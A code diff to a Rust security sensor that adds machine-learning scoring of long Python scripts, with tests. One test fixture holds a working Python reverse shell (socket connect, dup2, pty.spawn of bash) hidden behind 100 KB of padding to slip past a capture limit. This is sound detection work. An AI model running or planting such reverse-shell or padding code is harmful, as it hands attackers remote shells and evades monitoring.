@@ -20,9 +20,11 @@ use sha2::{Digest, Sha256};
 use shrike_core::container::ContainerIdentity;
 use shrike_core::event::{
     CapturedFile, Cgroup, ContainerInfo, ContentScanner, ExecEvent, Executable, ExitEvent, FdKind,
-    ForkEvent, Layer, LibraryEvent, Protocol, SocketFamily, SocketInfo, Stdio, YaraMatch,
+    ForkEvent, Layer, LibraryEvent, Protocol, RecordedScore, SocketFamily, SocketInfo, Stdio,
+    YaraMatch, PYTHON_SCORED_BYTES,
 };
 use shrike_core::interp::{is_python_interpreter, parse_invocation, PythonInvocation};
+use shrike_core::ScriptClassifier;
 use std::cell::OnceCell;
 use std::collections::BTreeMap;
 use std::ffi::OsStr;
@@ -67,6 +69,22 @@ pub struct EnrichConfig {
     /// What scans each executable's contents (the YARA rules), once per file identity, as
     /// it is hashed.
     pub yara: Option<Arc<dyn ContentScanner>>,
+    /// The Python model: a Python interpreter's script longer than `script_capture_bytes` is
+    /// scored here, up to [`PYTHON_SCORED_BYTES`], and the verdict recorded in the event
+    /// (`script.python`), so that code past the capture is scored too.
+    pub python: Option<PythonScorer>,
+}
+
+/// The script classifier the sensor scores long Python scripts with.
+#[derive(Clone)]
+pub struct PythonScorer(pub Arc<dyn ScriptClassifier>);
+
+impl std::fmt::Debug for PythonScorer {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_tuple("PythonScorer")
+            .field(&self.0.model_name())
+            .finish()
+    }
 }
 
 impl Default for EnrichConfig {
@@ -78,6 +96,7 @@ impl Default for EnrichConfig {
             max_hash_bytes: 256 << 20,
             hash_cache_entries: 1 << 16,
             yara: None,
+            python: None,
         }
     }
 }
@@ -103,6 +122,8 @@ pub struct EnrichStats {
     pub yara_matched: u64,
     /// Executables and scripts not scanned: too large, timed out, or unreadable.
     pub yara_failures: u64,
+    /// Python scripts longer than the capture, scored by the sensor (once per script hash).
+    pub python_scored: u64,
 }
 
 #[derive(Clone, Copy, PartialEq, Eq, Hash)]
@@ -129,6 +150,8 @@ pub struct Enricher {
     hashes: FxHashMap<FileKey, Identified>,
     /// YARA verdicts on scripts, by the script's SHA-256.
     script_verdicts: FxHashMap<String, Vec<YaraMatch>>,
+    /// Python verdicts on scripts longer than the capture, by the script's SHA-256.
+    python_verdicts: FxHashMap<String, RecordedScore>,
     cgroups: FxHashMap<u64, String>,
     containers: FxHashMap<String, Arc<RuntimeState>>,
     stats: EnrichStats,
@@ -458,6 +481,7 @@ impl Enricher {
             clock_offset: boot_clock_offset(),
             hashes: FxHashMap::default(),
             script_verdicts: FxHashMap::default(),
+            python_verdicts: FxHashMap::default(),
             cgroups: FxHashMap::default(),
             containers: FxHashMap::default(),
             stats: EnrichStats::default(),
@@ -850,6 +874,16 @@ impl Enricher {
         if candidates.is_empty() {
             return None;
         }
+        // A Python interpreter's script is kept as far as the model scores it, when the sensor
+        // has the model; the event still carries `script_capture_bytes` of it.
+        let capture = self.config.script_capture_bytes;
+        let python = is_python_interpreter(exe.path.rsplit('/').next().unwrap_or(""))
+            && self.config.python.is_some();
+        let keep = if python {
+            capture.max(PYTHON_SCORED_BYTES)
+        } else {
+            capture
+        };
         let mut read_any = false;
         for (path, must_be_shebang) in candidates {
             for (root, dir) in roots.get() {
@@ -869,15 +903,19 @@ impl Enricher {
                         continue;
                     }
                 }
-                let Ok((sha, size, head)) = read_script(
-                    &mut file,
-                    self.config.max_hash_bytes,
-                    self.config.script_capture_bytes,
-                ) else {
+                let Ok((sha, size, mut head)) =
+                    read_script(&mut file, self.config.max_hash_bytes, keep)
+                else {
                     continue;
                 };
                 self.stats.scripts_captured += 1;
                 let (yara, yara_error) = self.scan_script(&mut file, sha.as_deref());
+                let python = if python && head.len() > capture {
+                    self.score_python(&head, sha.as_deref())
+                } else {
+                    None
+                };
+                head.truncate(capture);
                 return Some(Box::new(CapturedFile {
                     path: Some(path.to_string_lossy().into_owned()),
                     contents: String::from_utf8_lossy(&head).into_owned(),
@@ -886,6 +924,7 @@ impl Enricher {
                     truncated: size > head.len() as u64,
                     yara,
                     yara_error,
+                    python,
                 }));
             }
         }
@@ -898,6 +937,37 @@ impl Enricher {
     /// Scans a captured script, the whole file, with the YARA rules (counted with the
     /// executables' scans). A verdict is kept by the script's SHA-256, so a script run again and
     /// again (a health check, a cron job) is scanned once; failures are not kept.
+    /// The Python model's verdict on `text`, the start of a script longer than the capture (at
+    /// most [`PYTHON_SCORED_BYTES`]), kept by the script's SHA-256. The reasons are worked
+    /// out only for a score at or above the model's threshold, as the detector does.
+    fn score_python(&mut self, text: &[u8], sha256: Option<&str>) -> Option<RecordedScore> {
+        let scorer = &self.config.python.as_ref()?.0;
+        if let Some(known) = sha256.and_then(|h| self.python_verdicts.get(h)) {
+            return Some(known.clone());
+        }
+        let source = String::from_utf8_lossy(text);
+        let score = scorer.score(&source);
+        let reasons = if score >= scorer.threshold() {
+            scorer.explain(&source).reasons
+        } else {
+            String::new()
+        };
+        let recorded = RecordedScore {
+            model: scorer.model_name().to_owned(),
+            score,
+            reasons,
+            scored_bytes: text.len() as u64,
+        };
+        self.stats.python_scored += 1;
+        if let Some(h) = sha256 {
+            if self.python_verdicts.len() >= self.config.hash_cache_entries {
+                self.python_verdicts.clear();
+            }
+            self.python_verdicts.insert(h.to_owned(), recorded.clone());
+        }
+        Some(recorded)
+    }
+
     fn scan_script(
         &mut self,
         file: &mut File,
@@ -1670,6 +1740,92 @@ mod tests {
         assert_eq!((captured.size, captured.truncated), (10 << 20, true));
         assert_eq!(captured.contents.len(), 64 * 1024);
         assert!(captured.sha256.is_none());
+    }
+
+    /// The Python model, as `shrike watch` gives it to the sensor.
+    fn python_model() -> PythonScorer {
+        let model = shrike_pyml::embedded_model().expect("the built-in model loads");
+        PythonScorer(Arc::new(shrike_pyml::Classifier::new(model, None)))
+    }
+
+    /// 100 KB of ordinary settings code, then a reverse shell: the 64 KiB capture holds only
+    /// the settings.
+    fn padded_reverse_shell() -> Vec<u8> {
+        let mut text = String::from("import json\nimport os\n\nsettings = {}\n");
+        let mut i = 0;
+        while text.len() < 100_000 {
+            text.push_str(&format!(
+                "settings[\"option_{i}\"] = json.loads(os.environ.get(\"OPTION_{i}\", \"null\"))\n"
+            ));
+            i += 1;
+        }
+        text.push_str(
+            "import socket, pty\nsock = socket.create_connection((\"127.0.0.1\", 4444))\n\
+             for fd in (0, 1, 2):\n    os.dup2(sock.fileno(), fd)\npty.spawn(\"/bin/bash\")\n",
+        );
+        text.into_bytes()
+    }
+
+    #[test]
+    fn python_scripts_longer_than_the_capture_are_scored_further_with_the_model() {
+        let fake = FakeHost::new(81, false, false);
+        let script = padded_reverse_shell();
+        write(&fake.host().join("job.py"), &script);
+        let scorer = python_model();
+        let threshold = scorer.0.threshold();
+        let mut enricher = Enricher::new(EnrichConfig {
+            python: Some(scorer),
+            ..fake.enricher().config.clone()
+        });
+        let python = |e: &mut Enricher| {
+            e.exec(&fake.exec(b"/usr/bin/python3", &[b"python3", b"/job.py"]))
+                .script
+                .expect("the script is captured")
+        };
+        let captured = python(&mut enricher);
+        assert!(captured.truncated);
+        assert_eq!(captured.contents.len(), 64 * 1024);
+        // The capture alone looks benign; the script scored as far as the model reads does not.
+        let model = python_model();
+        assert!(model.0.score(&captured.contents) < 0.1);
+        let recorded = captured.python.expect("a long Python script is scored");
+        assert_eq!(recorded.model, model.0.model_name());
+        assert_eq!(recorded.scored_bytes, script.len() as u64);
+        assert!(recorded.score >= threshold, "{recorded:?}");
+        assert!(recorded.reasons.contains("dup2"), "{recorded:?}");
+        // Once per script: the same file again comes from the cache.
+        assert_eq!(python(&mut enricher).python, Some(recorded));
+        assert_eq!(enricher.stats().python_scored, 1);
+
+        // Past PYTHON_SCORED_BYTES the start is scored, and says how much.
+        let mut long = script.clone();
+        long.resize(PYTHON_SCORED_BYTES + 4096, b'\n');
+        write(&fake.host().join("job.py"), &long);
+        let captured = python(&mut enricher);
+        let recorded = captured.python.unwrap();
+        assert_eq!(recorded.scored_bytes, PYTHON_SCORED_BYTES as u64);
+        assert_eq!(captured.size, long.len() as u64);
+        assert_eq!(captured.contents.len(), 64 * 1024);
+        assert!(recorded.score >= threshold);
+        // Below threshold: scored, without the work of reasons.
+        write(&fake.host().join("job.py"), &script[..script.len() - 200]);
+        let recorded = python(&mut enricher).python.unwrap();
+        assert!(recorded.score < threshold, "{recorded:?}");
+        assert!(recorded.reasons.is_empty());
+        assert_eq!(enricher.stats().python_scored, 3);
+
+        // A script within the capture is the detector's to score; a shell's script is not
+        // Python; and without the model the sensor scores nothing.
+        write(&fake.host().join("job.py"), &script[script.len() - 300..]);
+        assert_eq!(python(&mut enricher).python, None);
+        write(&fake.host().join("job.sh"), &script);
+        let mut sh = fake.exec(b"/bin/sh", &[b"sh", b"/job.sh"]);
+        sh.exe_path = Some("/bin/sh".into());
+        sh.exe_path_bytes = b"/bin/sh".to_vec();
+        let shell = enricher.exec(&sh).script.unwrap();
+        assert!(shell.truncated && shell.python.is_none());
+        write(&fake.host().join("job.py"), &script);
+        assert_eq!(python(&mut fake.enricher()).python, None);
     }
 
     #[test]
